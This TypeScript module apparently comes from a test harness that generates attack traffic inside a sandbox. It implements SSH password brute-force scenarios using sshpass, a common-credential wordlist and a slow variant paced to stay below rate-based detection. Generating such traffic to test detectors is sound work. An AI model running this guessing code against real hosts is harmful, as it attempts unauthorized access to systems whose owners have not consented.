// The SSH brute force: repeated password logins from the source to the target's sshd with a small
// wordlist (sshpass + ssh, one connection per guess). Every guess fails by construction: the
// sandbox sshd accepts only keys for root and has no other account.
import { spawn } from 'node:child_process';
import { SSH_PORT } from '../services.js';
import { intOption, type Scenario, type ScenarioEnv } from './scenario.js';

export const USERS = ['root', 'admin', 'ubuntu', 'oracle', 'postgres'] as const;
export const PASSWORDS = [
  '123456',
  'password',
  'admin',
  'root',
  'qwerty',
  'letmein',
  'changeme',
  'toor',
  'welcome',
  'passw0rd',
  'dragon',
  'master',
  'shadow',
  'monkey',
  'abc123',
  'oracle',
] as const;

/** The n-th guess of the wordlist: every password for one user, then the next user. */
export function guess(n: number): { user: string; password: string } {
  return { user: USERS[Math.floor(n / PASSWORDS.length) % USERS.length]!, password: PASSWORDS[n % PASSWORDS.length]! };
}

export type AttemptResult = 'rejected' | 'accepted' | 'error';

function attempt(env: ScenarioEnv, port: number, user: string, password: string): Promise<AttemptResult> {
  const ssh = [
    'ssh',
    '-p',
    String(port),
    '-o',
    'StrictHostKeyChecking=no',
    '-o',
    'UserKnownHostsFile=/dev/null',
    '-o',
    'LogLevel=ERROR',
    '-o',
    'PubkeyAuthentication=no',
    '-o',
    'PreferredAuthentications=password',
    '-o',
    'ConnectTimeout=5',
    `${user}@${env.dst.ip}`,
    'true',
  ];
  return new Promise((resolve) => {
    // the guess goes through the environment (-e), not argv, like a real tool would keep it
    const child = spawn(...env.runner.argv(env.src, 'sshpass', ['-e', ...ssh]), {
      stdio: 'ignore',
      env: { ...process.env, SSHPASS: password },
    });
    const timer = setTimeout(() => child.kill('SIGKILL'), 15_000);
    child.on('error', () => resolve('error'));
    child.on('close', (code) => {
      clearTimeout(timer);
      // sshpass: 5 = wrong password; 0 = logged in; anything else is a connection problem
      resolve(code === 5 ? 'rejected' : code === 0 ? 'accepted' : 'error');
    });
  });
}

interface GuessPlan {
  attempts: number;
  parallel: number;
  port: number;
  /** pause of each worker after a guess */
  intervalMs: number;
}

async function guessAll(env: ScenarioEnv, p: GuessPlan): Promise<Record<AttemptResult, number> & { sent: number }> {
  const deadline = env.now() + env.durationMs;
  const tally: Record<AttemptResult, number> = { rejected: 0, accepted: 0, error: 0 };
  let next = 0;
  const worker = async (): Promise<void> => {
    while (next < p.attempts && env.now() < deadline) {
      const g = guess(next++);
      tally[await attempt(env, p.port, g.user, g.password)]++;
      if (p.intervalMs > 0 && next < p.attempts) await new Promise((r) => setTimeout(r, p.intervalMs));
    }
  };
  await Promise.all(Array.from({ length: p.parallel }, worker));
  env.log.info(`ssh guesses: ${tally.rejected} rejected, ${tally.accepted} accepted, ${tally.error} connection errors`);
  return { ...tally, sent: next };
}

const SSH_TOOLS: Scenario['tools'] = [
  ['sshpass', 'sshpass'],
  ['ssh', 'openssh-client'],
];

export const bruteforce: Scenario = {
  name: 'bruteforce',
  description: 'repeated failed SSH password logins with a small wordlist (--port: sshd also listens on 2222)',
  defaultTargetRole: 'db',
  tools: SSH_TOOLS,
  async run(env, o) {
    const plan: GuessPlan = {
      attempts: intOption(o['attempts'], '--attempts', 40, 1, 10_000),
      parallel: intOption(o['parallel'], '--parallel', 4, 1, 16),
      port: intOption(o['port'], '--port', SSH_PORT, 1, 65535),
      intervalMs: intOption(o['interval'], '--interval', 0, 0, 600_000),
    };
    const t = await guessAll(env, plan);
    return {
      tool: 'sshpass+ssh',
      port: plan.port,
      attempts: t.sent,
      rejected: t.rejected,
      accepted: t.accepted,
      errors: t.error,
    };
  },
};

/** The slow guesser: one connection at a time, `attempts` guesses spread evenly over --duration
 *  (default 10 in 2 minutes, below any per-second rate), so a test can run it shorter. */
export const slowBruteforce: Scenario = {
  name: 'slow-bruteforce',
  description: 'slow SSH password guessing: --attempts (default 10) spread over --duration (default 2m)',
  defaultTargetRole: 'db',
  tools: SSH_TOOLS,
  async run(env, o) {
    const attempts = intOption(o['attempts'], '--attempts', 10, 1, 1_000);
    const plan: GuessPlan = {
      attempts,
      parallel: 1,
      port: intOption(o['port'], '--port', SSH_PORT, 1, 65535),
      intervalMs: Math.floor(env.durationMs / attempts),
    };
    // the last guess must still fit: the deadline is the duration plus one guess's own time
    const t = await guessAll({ ...env, durationMs: env.durationMs + 15_000 }, plan);
    return {
      tool: 'sshpass+ssh',
      port: plan.port,
      attempts: t.sent,
      intervalMs: plan.intervalMs,
      rejected: t.rejected,
      errors: t.error,
    };
  },
};
